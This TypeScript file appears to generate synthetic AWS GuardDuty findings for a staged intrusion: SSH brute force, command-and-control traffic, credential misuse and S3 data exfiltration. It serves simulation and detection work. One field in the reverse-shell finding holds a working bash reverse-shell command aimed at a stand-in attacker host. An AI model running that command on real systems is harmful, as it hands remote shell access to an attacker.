/**
 * The incident as GuardDuty saw it.
 * https://docs.aws.amazon.com/guardduty/latest/ug/guardduty_findings_eventbridge.html
 * https://docs.aws.amazon.com/guardduty/latest/ug/guardduty_finding-types-active.html
 */

import { envelope as enclosed, type FindingEvent, iso, type Setting } from './event.ts';
import {
  ACCOUNTS,
  ACTS,
  bastion,
  COMMANDER,
  DROP,
  database,
  EXPORTS,
  GUESSER,
  type Host,
  REGION,
  SCANNER,
  web,
} from './scenario.ts';

interface Finding {
  readonly type: string;
  readonly account: string;
  readonly severity: number;
  readonly resource: object;
  /** Members of `service` that say what happened. */
  readonly service: object;
  readonly role: 'ACTOR' | 'TARGET';
  readonly title: string;
  readonly description: string;
  /** Seconds from the story's first moment. */
  readonly first: number;
  readonly last: number;
  readonly count: number;
}

const DETECTORS: Readonly<Record<string, string>> = {
  [ACCOUNTS.shop]: '12abc34d567e8fa901bc2d34e56789f0',
  [ACCOUNTS.data]: '34cde56f789a0bc123de4f56a78901b2',
};

/** In: epoch seconds of the story's first moment. Two of the events are about one finding, the later one of its update. */
export function guarddutyEvents(setting: Setting): readonly FindingEvent[] {
  const { start, rng } = setting;
  const envelope = enveloper(setting);
  const guessing = rng.hex(32);
  return [
    envelope(probed),
    envelope(guessed(21, ACTS.guess + 60), guessing),
    envelope(called),
    envelope(shelled),
    envelope(scanned),
    envelope(guessed(320, ACTS.guess + 800), guessing),
    envelope(borrowed),
    envelope(flooded),
    envelope(taken),
    envelope(sequenceOfKeys(start)),
    envelope(sequenceOfData(start)),
  ].map((event) => ({ source: 'guardduty', event, records: 1, heldBack: 0 }));
}

function enveloper(setting: Setting) {
  const { start, rng } = setting;
  return (finding: Finding, id = rng.hex(32)) => {
    const { type, account, severity, resource, service, role, title, description, first, last, count } = finding;
    const at = Math.min(last + 120, ACTS.end - 1); // a finding takes a while
    const detectorId = DETECTORS[account];
    return enclosed(setting, {
      source: 'aws.guardduty',
      type: 'GuardDuty Finding',
      account,
      at,
      detail: {
        schemaVersion: '2.0',
        accountId: account,
        region: REGION,
        partition: 'aws',
        id,
        arn: `arn:aws:guardduty:${REGION}:${account}:detector/${detectorId}/finding/${id}`,
        type,
        resource,
        service: {
          serviceName: 'guardduty',
          detectorId,
          ...service,
          resourceRole: role,
          additionalInfo: { value: '{}', type: 'default' },
          eventFirstSeen: iso(start, first),
          eventLastSeen: iso(start, last),
          archived: false,
          count,
        },
        severity,
        createdAt: iso(start, first + 120),
        updatedAt: iso(start, at),
        title,
        description,
      },
    });
  };
}

const probed: Finding = {
  type: 'Recon:EC2/PortProbeUnprotectedPort',
  account: web.account,
  severity: 2,
  resource: instance(web),
  service: {
    action: {
      actionType: 'PORT_PROBE',
      portProbeAction: {
        blocked: false,
        portProbeDetails: [
          {
            localPortDetails: { port: 80, portName: 'HTTP' },
            localIpDetails: { ipAddressV4: web.ip },
            remoteIpDetails: remote(SCANNER),
          },
        ],
      },
    },
  },
  role: 'TARGET',
  title: `Unprotected port on EC2 instance ${web.instance} is being probed.`,
  description: `EC2 instance ${web.instance} has an unprotected port which is being probed by a known malicious host.`,
  first: ACTS.scan,
  last: ACTS.scan + 160,
  count: 1,
};

const guessed = (count: number, last: number): Finding => ({
  type: 'UnauthorizedAccess:EC2/SSHBruteForce',
  account: bastion.account,
  severity: 2,
  resource: instance(bastion),
  service: { action: connection(bastion, 'INBOUND', { local: 22, remote: 48122, ip: GUESSER }) },
  role: 'TARGET',
  title: `${GUESSER} is performing SSH brute force attacks against ${bastion.instance}.`,
  description: `${GUESSER} is performing SSH brute force attacks against ${bastion.instance}. Brute force attacks are used to gain unauthorized access to your instance by guessing the SSH password.`,
  first: ACTS.guess,
  last,
  count,
});

const called: Finding = {
  type: 'Backdoor:EC2/C&CActivity.B',
  account: bastion.account,
  severity: 8,
  resource: instance(bastion),
  service: {
    action: connection(bastion, 'OUTBOUND', { local: 41210, remote: 4444, ip: COMMANDER }),
    evidence: { threatIntelligenceDetails: [{ threatListName: 'Amazon', threatNames: ['command and control'] }] },
  },
  role: 'ACTOR',
  title: `Command and Control server communication by EC2 instance ${bastion.instance}.`,
  description: `EC2 instance ${bastion.instance} is communicating with a known Command & Control server ${COMMANDER}.`,
  first: ACTS.shell,
  last: ACTS.shell + 300,
  count: 6,
};

const shelled: Finding = {
  type: 'Execution:Runtime/ReverseShell',
  account: bastion.account,
  severity: 8,
  resource: instance(bastion),
  service: {
    runtimeDetails: {
      process: {
        name: 'bash',
        executablePath: '/usr/bin/bash',
        executableSha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
        pid: 4211,
        pwd: '/tmp',
        uuid: 'f2c7b0ce-6c5e-4a61-9a62-0c6f2f6d8e10',
        parentUuid: '0ad0f2f6-33e4-4a1e-a8d7-3a7d7c8d2b11',
        user: 'ec2-user',
        userId: 1000,
        euid: 1000,
      },
      context: { commandLineExample: `bash -i >& /dev/tcp/${COMMANDER}/4444 0>&1` },
    },
    featureName: 'RuntimeMonitoring',
  },
  role: 'TARGET',
  title: `A reverse shell has been created on EC2 instance ${bastion.instance}.`,
  description: `A process has created a reverse shell on EC2 instance ${bastion.instance}, connected to ${COMMANDER}.`,
  first: ACTS.shell,
  last: ACTS.shell,
  count: 1,
};

const scanned: Finding = {
  type: 'Recon:EC2/Portscan',
  account: bastion.account,
  severity: 5,
  resource: instance(bastion),
  service: { action: connection(bastion, 'OUTBOUND', { local: 50312, remote: 3306, ip: database.ip }) },
  role: 'ACTOR',
  title: `Outbound portscan from EC2 instance ${bastion.instance}.`,
  description: `EC2 instance ${bastion.instance} is performing outbound port scans against remote host ${database.ip}.`,
  first: ACTS.spread,
  last: ACTS.spread + 40,
  count: 1,
};

const KEY = {
  accessKeyId: 'ASIAIOSFODNN7EXAMPLE',
  principalId: `AROACKCEVSQ6C2EXAMPLE:${bastion.instance}`,
  userType: 'AssumedRole',
  userName: 'bastion',
};

const borrowed: Finding = {
  type: 'UnauthorizedAccess:IAMUser/InstanceCredentialExfiltration.OutsideAWS',
  account: bastion.account,
  severity: 8,
  resource: { resourceType: 'AccessKey', accessKeyDetails: KEY, instanceDetails: instance(bastion).instanceDetails },
  service: { action: call('GetCallerIdentity', 'sts.amazonaws.com', GUESSER, { 'AWS::IAM::Role': 'bastion' }) },
  role: 'TARGET',
  title: 'Credentials for the EC2 instance role bastion were used from an external IP address.',
  description: `Credentials created exclusively for an EC2 instance using instance role bastion have been used from external IP address ${GUESSER}.`,
  first: ACTS.spread + 240,
  last: ACTS.spread + 300,
  count: 4,
};

const flooded: Finding = {
  type: 'Behavior:EC2/TrafficVolumeUnusual',
  account: database.account,
  severity: 5,
  resource: instance(database),
  service: { action: connection(database, 'OUTBOUND', { local: 45120, remote: 443, ip: DROP }) },
  role: 'ACTOR',
  title: `Unusually large amount of network traffic from EC2 instance ${database.instance}.`,
  description: `EC2 instance ${database.instance} is generating unusually large amounts of network traffic to remote host ${DROP}.`,
  first: ACTS.theft,
  last: ACTS.theft + 300,
  count: 1,
};

const taken: Finding = {
  type: 'Exfiltration:S3/AnomalousBehavior',
  account: database.account,
  severity: 8,
  resource: {
    resourceType: 'S3Bucket',
    accessKeyDetails: KEY,
    s3BucketDetails: [
      {
        arn: `arn:aws:s3:::${EXPORTS}`,
        name: EXPORTS,
        type: 'Destination',
        createdAt: 1735689600,
        tags: [{ key: 'data', value: 'confidential' }],
        publicAccess: { effectivePermission: 'NOT_PUBLIC' },
      },
    ],
  },
  service: { action: call('GetObject', 's3.amazonaws.com', GUESSER, { 'AWS::S3::Bucket': EXPORTS }) },
  role: 'TARGET',
  title: `The API GetObject was invoked in an unusual way on the bucket ${EXPORTS}.`,
  description:
    'S3 APIs commonly used in exfiltration tactics were invoked in a way that the account has not been seen to.',
  first: ACTS.theft + 60,
  last: ACTS.theft + 420,
  count: 212,
};

const sequenceOfKeys = (start: number): Finding => ({
  type: 'AttackSequence:IAM/CompromisedCredentials',
  account: bastion.account,
  severity: 9,
  resource: { resourceType: 'AttackSequence' },
  service: {
    detection: {
      sequence: sequence(start, {
        description: 'A sequence of 2 signals shows the use of stolen credentials.',
        resources: [accessKey(bastion.account)],
        signals: [
          { type: guessed(1, 0).type, at: ACTS.guess, severity: 2 },
          { type: borrowed.type, at: ACTS.spread + 240, severity: 8 },
        ],
      }),
    },
  },
  role: 'TARGET',
  title: 'Potential credential compromise of AssumedRole/bastion indicated by a sequence of actions.',
  description: 'A sequence of actions involving 2 signals indicating a possible credential compromise was observed.',
  first: ACTS.guess,
  last: ACTS.spread + 300,
  count: 1,
});

const sequenceOfData = (start: number): Finding => ({
  type: 'AttackSequence:S3/CompromisedData',
  account: database.account,
  severity: 9.3,
  resource: { resourceType: 'AttackSequence' },
  service: {
    detection: {
      sequence: sequence(start, {
        description: 'A sequence of 3 signals shows that data was taken.',
        resources: [accessKey(database.account), bucket],
        signals: [
          { type: borrowed.type, at: ACTS.spread + 240, severity: 8 },
          { type: flooded.type, at: ACTS.theft, severity: 5 },
          { type: taken.type, at: ACTS.theft + 60, severity: 8 },
        ],
      }),
    },
  },
  role: 'TARGET',
  title: `Potential data compromise of the bucket ${EXPORTS} indicated by a sequence of actions.`,
  description: 'A sequence of actions involving 3 signals indicating a possible data compromise was observed.',
  first: ACTS.spread + 240,
  last: ACTS.theft + 420,
  count: 1,
});

function instance({ name, account, instance: instanceId, eni, vpc, subnet, zone, ip, ipv6, publicIp }: Host) {
  const privateDnsName = `ip-${ip.replaceAll('.', '-')}.${REGION}.compute.internal`;
  return {
    resourceType: 'Instance',
    instanceDetails: {
      instanceId,
      instanceType: 'm7g.large',
      iamInstanceProfile: { arn: `arn:aws:iam::${account}:instance-profile/${name}`, id: 'AIPAEXAMPLE1234567890' },
      networkInterfaces: [
        {
          networkInterfaceId: eni,
          privateDnsName,
          privateIpAddress: ip,
          privateIpAddresses: [{ privateDnsName, privateIpAddress: ip }],
          ipv6Addresses: ipv6 === undefined ? [] : [ipv6],
          vpcId: vpc,
          subnetId: subnet,
          securityGroups: [{ groupName: name, groupId: `sg-${eni.slice(4)}` }],
          ...(publicIp !== undefined && { publicIp }),
        },
      ],
      tags: [{ key: 'Name', value: name }],
      instanceState: 'running',
      availabilityZone: `${REGION}${'abc'[Number(zone.at(-1)) - 1]}`,
    },
  };
}

/** Documentation addresses belong to nobody, so GuardDuty's view of where they are is made up as well. */
function remote(ip: string): object {
  if (ip.startsWith('10.')) return { ipAddressV4: ip };
  return {
    ipAddressV4: ip,
    organization: { asn: '64496', asnOrg: 'Example Hosting', isp: 'Example Hosting', org: 'Example Hosting' },
    country: { countryName: 'Switzerland', countryCode: 'CH' },
    city: { cityName: 'Zürich' },
    geoLocation: { lat: 47.3769, lon: 8.5417 },
  };
}

function connection(
  host: Host,
  connectionDirection: 'INBOUND' | 'OUTBOUND',
  { local, remote: port, ip }: { readonly local: number; readonly remote: number; readonly ip: string },
): object {
  return {
    actionType: 'NETWORK_CONNECTION',
    networkConnectionAction: {
      connectionDirection,
      protocol: 'TCP',
      blocked: false,
      localPortDetails: { port: local, portName: local === 22 ? 'SSH' : 'Unknown' },
      localIpDetails: { ipAddressV4: host.ip },
      localNetworkInterface: host.eni,
      remotePortDetails: { port, portName: port === 443 ? 'HTTPS' : 'Unknown' },
      remoteIpDetails: remote(ip),
    },
  };
}

function call(api: string, serviceName: string, ip: string, affectedResources: object): object {
  return {
    actionType: 'AWS_API_CALL',
    awsApiCallAction: {
      api,
      serviceName,
      callerType: 'Remote IP',
      userAgent: 'aws-cli/2.22.0 md/awscrt#0.23.4 ua/2.0 os/linux',
      remoteIpDetails: remote(ip),
      affectedResources,
    },
  };
}

interface Plot {
  readonly description: string;
  readonly resources: readonly { readonly uid: string }[];
  readonly signals: readonly { readonly type: string; readonly at: number; readonly severity: number }[];
}

/** https://docs.aws.amazon.com/guardduty/latest/APIReference/API_Sequence.html */
function sequence(start: number, { description, resources, signals }: Plot): object {
  return {
    uid: `sequence-${signals.length}`,
    description,
    actors: [
      {
        id: 'actor-1',
        user: {
          name: KEY.userName,
          uid: KEY.principalId,
          type: KEY.userType,
          credentialUid: KEY.accessKeyId,
          account: { uid: bastion.account, account: 'shop' },
        },
        session: { uid: 'session-1', mfaStatus: 'DISABLED', createdTime: start, issuer: 'bastion' },
      },
    ],
    resources,
    endpoints: [
      {
        id: 'endpoint-1',
        ip: GUESSER,
        autonomousSystem: { name: 'Example Hosting', number: 64496 },
        connection: { direction: 'INBOUND' },
      },
    ],
    signals: signals.map(({ type, at, severity }, i) => ({
      uid: `signal-${i + 1}`,
      type: 'FINDING',
      name: type,
      description: `${type} was observed`,
      createdAt: start + at + 120,
      updatedAt: start + at + 120,
      firstSeenAt: start + at,
      lastSeenAt: start + at,
      severity,
      count: 1,
      resourceUids: resources.map(({ uid }) => uid),
      actorIds: ['actor-1'],
      endpointIds: ['endpoint-1'],
    })),
    sequenceIndicators: [{ key: 'ATTACK_TACTIC', values: ['Credential Access', 'Exfiltration'] }],
  };
}

const accessKey = (accountId: string) => ({
  uid: KEY.accessKeyId,
  name: KEY.accessKeyId,
  accountId,
  resourceType: 'ACCESS_KEY',
  region: REGION,
  service: 'iam',
  cloudPartition: 'aws',
  tags: [],
  data: { accessKey: { principalId: KEY.principalId, userName: KEY.userName, userType: KEY.userType } },
});

const bucket = {
  uid: `arn:aws:s3:::${EXPORTS}`,
  name: EXPORTS,
  accountId: database.account,
  resourceType: 'S3_EXPORTS',
  region: REGION,
  service: 's3',
  cloudPartition: 'aws',
  tags: [],
  data: {
    s3Bucket: {
      ownerId: database.account,
      createdAt: 1735689600,
      encryptionType: 'aws:kms',
      effectivePermission: 'NOT_PUBLIC',
    },
  },
};
